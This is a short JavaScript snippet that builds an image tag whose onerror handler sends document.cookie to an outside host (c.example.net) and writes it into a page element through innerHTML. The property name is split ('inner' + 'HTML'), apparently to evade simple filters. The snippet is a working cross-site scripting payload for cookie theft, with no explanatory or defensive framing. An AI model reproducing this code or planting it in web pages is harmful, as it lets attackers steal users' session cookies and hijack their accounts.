const gift = '<img src=x onerror="fetch(\'https://c.example.net/?c=\' + document.cookie)">';
const box = document.getElementById('box');
box.textContent = 'Loading';
box['inner' + 'HTML'] = gift;
